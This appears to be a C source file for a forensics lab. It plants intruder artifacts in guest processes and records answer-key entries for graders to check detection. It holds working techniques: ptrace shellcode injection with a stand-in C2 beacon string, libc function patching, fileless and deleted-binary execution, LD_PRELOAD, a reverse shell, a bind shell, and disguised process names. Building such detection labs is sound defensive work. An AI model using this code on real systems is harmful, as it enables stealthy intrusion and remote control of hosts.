/* SPDX-License-Identifier: Apache-2.0 */
/*
 * memory_plants NAME [ARGUMENT]: what an intruder leaves in the memory of a
 * guest of the lab. Each plant is there when its line of the answer key is in
 * /run/ready/plant-NAME: {"plant": NAME, "pid": whose …}. The process that is
 * the plant, or its helper, then sleeps for good.
 *
 * Works in the small guests and in those of guests.sh: all that it needs are
 * bash, sh and itself as /usr/bin/memory_plants or wherever it was started.
 * Its library for LD_PRELOAD is memory_preload.c.
 */
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <netpacket/packet.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *plant;	/* which */
static const char *argument;
static const char *ready_dir = "/run/ready";

static void fail(const char *what)
{
	fprintf(stderr, "plants: %s: %s: %s\n", plant, what, strerror(errno));
	exit(1);
}
#define CHECK(x)                                                                                   \
	({                                                                                         \
		__typeof__(x) r_ = (x);                                                            \
		if ((intptr_t)r_ == -1)                                                            \
			fail(#x);                                                                  \
		r_;                                                                                \
	})

static void sleep_for_good(void)
{
	for (;;)
		pause();
}
/* The line of the answer key; more is further members of the object. */
__attribute__((format(printf, 2, 3))) static void planted(pid_t pid, const char *more, ...)
{
	char path[256], part[300], text[512];
	va_list list;
	int n, fd;

	va_start(list, more);
	vsnprintf(text, sizeof(text), more, list);
	va_end(list);
	snprintf(path, sizeof(path), "%s/plant-%s", ready_dir, plant);
	snprintf(part, sizeof(part), "%s.part", path);
	fd = CHECK(open(part, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
	n = dprintf(fd, "{\"plant\": \"%s\", \"pid\": %d%s%s}\n", plant, pid, *text ? ", " : "",
		    text);
	if (n < 0)
		fail("say");
	close(fd);
	CHECK(rename(part, path));
}
static void copy_self(int to)
{
	char bytes[65536];
	ssize_t n;
	int from = CHECK(open("/proc/self/exe", O_RDONLY | O_CLOEXEC));

	while ((n = read(from, bytes, sizeof(bytes))) > 0)
		if (write(to, bytes, (size_t)n) != n)
			fail("copy");
	close(from);
}
static void copy_self_as(const char *path)
{
	int fd = CHECK(open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0755));

	copy_self(fd);
	CHECK(fchmod(fd, 0755));
	close(fd);
}
/* A child that runs path; it has gone over to that when this returns. */
static pid_t run(const char *path, char *const argv[], char *const envp[])
{
	int p[2];
	char c;
	pid_t pid;

	CHECK(pipe2(p, O_CLOEXEC));
	pid = CHECK(fork());
	if (!pid) {
		execve(path, argv, envp);
		fail(path);
	}
	close(p[1]);
	if (read(p[0], &c, 1) < 0)
		fail("read");
	close(p[0]);
	usleep(300000);		/* until it sleeps */
	return pid;
}
static char *const plain_env[] = { "PATH=/usr/bin:/bin", "LANG=C", NULL };

/* ---- programs that are on no disk ---- */

static void memfd_exe(void)
{
	char *argv[] = { "/usr/sbin/cron", "sleep", NULL };
	pid_t pid;
	int p[2];
	char c;

	CHECK(pipe2(p, O_CLOEXEC));
	pid = CHECK(fork());
	if (!pid) {
		int fd = CHECK(memfd_create("", MFD_CLOEXEC));

		copy_self(fd);
		fexecve(fd, argv, plain_env);
		fail("fexecve");
	}
	close(p[1]);
	if (read(p[0], &c, 1) < 0)
		fail("read");
	usleep(300000);
	planted(pid, "\"exe\": \"/memfd: (deleted)\"");
}
static void deleted(const char *path)
{
	char *argv[] = { (char *)path, "sleep", NULL };
	pid_t pid;

	copy_self_as(path);
	pid = run(path, argv, plain_env);
	CHECK(unlink(path));
	planted(pid, "\"exe\": \"%s (deleted)\"", path);
}
static void deleted_exe(void)
{
	deleted("/opt/.cache-update");
}
static void deleted_shm(void)
{
	deleted("/dev/shm/.x");
}

/* ---- libraries and code in others' processes ---- */

static void ld_preload(void)
{
	const char *library = argument ? argument : "/usr/local/lib/libsystem-helper.so.1";
	char preload[300];
	char *argv[] = { "bash", "-c", "exec 3<>/run/preload.fifo; read -r _ <&3", NULL };
	char *envp[] = { "PATH=/usr/bin:/bin", preload, NULL };

	mkfifo("/run/preload.fifo", 0600);
	snprintf(preload, sizeof(preload), "LD_PRELOAD=%s", library);
	planted(run("/bin/bash", argv, envp), "\"library\": \"%s\"", library);
}

/* Starts a thread that sleeps, then stops for the tracer. */
__asm__(".pushsection .rodata\n"
	".globl plant_code, plant_code_end\n"
	"plant_code:\n"
	"	mov $56, %eax\n"	/* clone */
	"	mov $0x10f00, %edi\n"	/* VM FS FILES SIGHAND THREAD */
	"	lea plant_code(%rip), %rsi\n"
	"	add $0x1ff0, %rsi\n"	/* a stack: the end of these two pages */
	"	xor %edx, %edx\n"
	"	xor %r10d, %r10d\n"
	"	xor %r8d, %r8d\n"
	"	syscall\n"
	"	test %eax, %eax\n"
	"	jz 1f\n"
	"	int3\n"
	"1:	mov $34, %eax\n"	/* pause */
	"	syscall\n"
	"	jmp 1b\n"
	"	.ascii \"C2=198.51.100.7:443;beacon\"\n"
	"plant_code_end:\n"
	".popsection\n");
extern const char plant_code[], plant_code_end[];

static void wait_stop(pid_t pid)
{
	int s;

	CHECK(waitpid(pid, &s, __WALL));
	if (!WIFSTOPPED(s)) {
		errno = ESRCH;
		fail("stopped");
	}
}
/* By ptrace, as debuggers write: also where the process itself may not. */
static void poke(pid_t pid, uint64_t at, const void *bytes, size_t len)
{
	size_t i;

	for (i = 0; i < len; i += 8) {
		uint64_t word;

		errno = 0;
		word = (uint64_t)ptrace(PTRACE_PEEKTEXT, pid, at + i, NULL);
		if (errno)
			fail("peek");
		memcpy(&word, (const char *)bytes + i, len - i < 8 ? len - i : 8);
		CHECK(ptrace(PTRACE_POKETEXT, pid, at + i, word));
	}
}
/* Where its first mapping of that name and those permissions begins. */
static uint64_t find_map(pid_t pid, const char *name, const char *perms)
{
	char path[64], line[1024];
	uint64_t from = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, name) && strstr(line, perms)) {
			sscanf(line, "%lx", &from);
			break;
		}
	if (f)
		fclose(f);
	if (!from) {
		errno = ENOENT;
		fail(name);
	}
	return from;
}
static uint64_t find_code(pid_t pid)	/* of its program */
{
	char path[64], exe[512];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = CHECK(readlink(path, exe, sizeof(exe) - 1));
	exe[n] = 0;
	return find_map(pid, exe, "r-xp");
}
/* A process that does nothing wrong. */
static pid_t victim(void)
{
	char *argv[] = { "bash", "-c", "exec 3<>/run/victim.fifo; read -r _ <&3", NULL };

	mkfifo("/run/victim.fifo", 0600);
	return run("/bin/bash", argv, plain_env);
}
static void injected(void)
{
	pid_t pid = argument ? atoi(argument) : victim();
	struct user_regs_struct saved, regs;
	uint64_t at, code, before;
	static const uint8_t call[] = { 0x0f, 0x05, 0xcc };	/* syscall; int3 */

	CHECK(ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	wait_stop(pid);
	CHECK(ptrace(PTRACE_GETREGS, pid, NULL, &saved));
	/* for a moment where the program begins: nothing stays of it there but a
	   copy of that page */
	at = find_code(pid);
	errno = 0;
	before = (uint64_t)ptrace(PTRACE_PEEKTEXT, pid, at, NULL);
	poke(pid, at, call, sizeof(call));
	regs = saved;
	regs.rip = at;
	regs.orig_rax = (unsigned long long)-1;
	regs.rax = 9;	/* mmap */
	regs.rdi = 0;
	regs.rsi = 8192;
	regs.rdx = PROT_READ | PROT_WRITE | PROT_EXEC;
	regs.r10 = MAP_PRIVATE | MAP_ANONYMOUS;
	regs.r8 = (unsigned long long)-1;
	regs.r9 = 0;
	CHECK(ptrace(PTRACE_SETREGS, pid, NULL, &regs));
	CHECK(ptrace(PTRACE_CONT, pid, NULL, NULL));
	wait_stop(pid);
	CHECK(ptrace(PTRACE_GETREGS, pid, NULL, &regs));
	code = regs.rax;
	CHECK(ptrace(PTRACE_POKETEXT, pid, at, before));
	poke(pid, code, plant_code, (size_t)(plant_code_end - plant_code));
	regs.rip = code;
	regs.orig_rax = (unsigned long long)-1;
	CHECK(ptrace(PTRACE_SETREGS, pid, NULL, &regs));
	CHECK(ptrace(PTRACE_CONT, pid, NULL, NULL));
	wait_stop(pid);
	CHECK(ptrace(PTRACE_SETREGS, pid, NULL, &saved));	/* and back it goes */
	CHECK(ptrace(PTRACE_DETACH, pid, NULL, NULL));
	usleep(200000);
	planted(pid, "\"start\": %lu, \"end\": %lu", code, code + 8192);
}
static void patched_text(void)
{
	static const uint8_t jump[] = { 0x48, 0xb8, 0xef, 0xbe, 0xad, 0xde, 0, 0,
					0,    0,    0xff, 0xe0 };	/* mov rax; jmp rax */
	pid_t pid = argument ? atoi(argument) : victim();
	uint64_t ours = find_map(getpid(), "libc.so.6", "r--p");
	uint64_t at = find_map(pid, "libc.so.6", "r--p") +
		      ((uint64_t)(uintptr_t)dlsym(RTLD_DEFAULT, "readdir64") - ours);

	CHECK(ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	wait_stop(pid);
	poke(pid, at, jump, sizeof(jump));
	CHECK(ptrace(PTRACE_DETACH, pid, NULL, NULL));
	planted(pid, "\"at\": %lu, \"file\": \"libc.so.6\", \"offset\": %lu", at,
		at - find_map(pid, "libc.so.6", "r--p"));
}
/* The same from within, with the page writable for that long only. */
static void patched_self(void)
{
	uint8_t *at = dlsym(RTLD_DEFAULT, "getpwnam");
	uint8_t *page = (uint8_t *)((uintptr_t)at & ~4095UL);
	uint64_t base = find_map(getpid(), "libc.so.6", "r--p");

	CHECK(mprotect(page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC));
	memcpy(at, "\x31\xc0\xc3", 3);	/* xor eax,eax; ret */
	CHECK(mprotect(page, 8192, PROT_READ | PROT_EXEC));
	planted(getpid(), "\"at\": %lu, \"file\": \"libc.so.6\", \"offset\": %lu",
		(uint64_t)(uintptr_t)at, (uint64_t)(uintptr_t)at - base);
	sleep_for_good();
}
static void wx_library(void)	/* a library's code left writable */
{
	uint8_t *page = (uint8_t *)((uintptr_t)dlsym(RTLD_DEFAULT, "qsort") & ~4095UL);

	CHECK(mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC));
	planted(getpid(), "\"start\": %lu", (uint64_t)(uintptr_t)page);
	sleep_for_good();
}

/* ---- who talks to whom ---- */

static struct sockaddr_in address(uint16_t port)
{
	struct sockaddr_in a = { AF_INET, htons(port), { htonl(INADDR_LOOPBACK) }, { 0 } };

	if (argument)
		inet_aton(argument, &a.sin_addr);
	return a;
}
static void reverse_shell(void)
{
	struct sockaddr_in a = address(4444);
	int one = 1, s = CHECK(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
	pid_t pid;

	/* who waits for it: the intruder's, here on the same machine */
	CHECK(setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)));
	CHECK(bind(s, (void *)&a, sizeof(a)));
	CHECK(listen(s, 1));
	pid = CHECK(fork());
	if (!pid) {
		int c = CHECK(socket(AF_INET, SOCK_STREAM, 0)), i;

		CHECK(connect(c, (void *)&a, sizeof(a)));
		for (i = 0; i < 3; i++)
			CHECK(dup2(c, i));
		close(c);
		execle("/bin/sh", "sh", "-i", NULL, plain_env);
		fail("sh");
	}
	CHECK(accept4(s, NULL, NULL, SOCK_CLOEXEC));
	usleep(500000);
	planted(pid, "\"port\": 4444, \"listener\": %d", getpid());
	sleep_for_good();
}
static void bind_shell(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(31337) };
	int s = CHECK(socket(AF_INET, SOCK_STREAM, 0));

	CHECK(bind(s, (void *)&a, sizeof(a)));
	CHECK(listen(s, 1));
	planted(getpid(), "\"port\": 31337");
	sleep_for_good();
}
/* Waits for a packet that no port is open for. */
static void sniffer(void)
{
	struct sock_filter code[] = { BPF_STMT(BPF_LD | BPF_H | BPF_ABS, 12),
				      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, ETH_P_IP, 0, 1),
				      BPF_STMT(BPF_RET | BPF_K, 0xffff),
				      BPF_STMT(BPF_RET | BPF_K, 0) };
	struct sock_fprog prog = { 4, code };
	int s = CHECK(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP)));
	char bytes[2048];

	CHECK(setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof(prog)));
	prctl(PR_SET_NAME, "dbus-daemon");
	planted(getpid(), "\"socket\": \"packet\"");
	for (;;)
		if (recv(s, bytes, sizeof(bytes), 0) < 0)
			sleep_for_good();
}

/* ---- names ---- */

static void impostor(void)
{
	char *argv[] = { "[kworker/u2:1]", "name", NULL };

	copy_self_as("/usr/lib/.kw");
	planted(run("/usr/lib/.kw", argv, plain_env), "\"exe\": \"/usr/lib/.kw\"");
}
static void name(void)	/* what it does once it runs */
{
	prctl(PR_SET_NAME, "kworker/u2:1");
	memset((char *)(uintptr_t)plant, 0, strlen(plant));	/* of argv */
	sleep_for_good();
}
/* For the module, which hides it. */
static void to_be_hidden(void)
{
	char *argv[] = { "/usr/bin/update-notifier", "sleep", NULL };

	copy_self_as("/usr/bin/update-notifier");
	planted(run(argv[0], argv, plain_env), "\"exe\": \"%s\"", argv[0]);
}
static void asleep(void)
{
	sleep_for_good();
}

static const struct {
	const char *name;
	void (*plant)(void);
} plants[] = {
	{ "memfd-exe", memfd_exe }, { "deleted-exe", deleted_exe }, { "deleted-shm", deleted_shm },
	{ "ld-preload", ld_preload }, { "injected", injected }, { "patched-text", patched_text },
	{ "patched-self", patched_self }, { "wx-library", wx_library },
	{ "reverse-shell", reverse_shell }, { "bind-shell", bind_shell }, { "sniffer", sniffer },
	{ "impostor", impostor }, { "to-be-hidden", to_be_hidden },
	{ "sleep", asleep }, { "name", name },
};

int main(int argc, char **argv)
{
	size_t i;

	if (argc < 2)
		return 2;
	plant = argv[1];
	argument = argc > 2 && *argv[2] ? argv[2] : NULL;
	if (getenv("READY"))
		ready_dir = getenv("READY");
	for (i = 0; i < sizeof(plants) / sizeof(*plants); i++)
		if (!strcmp(plant, plants[i].name)) {
			plants[i].plant();
			return 0;
		}
	return 2;
}
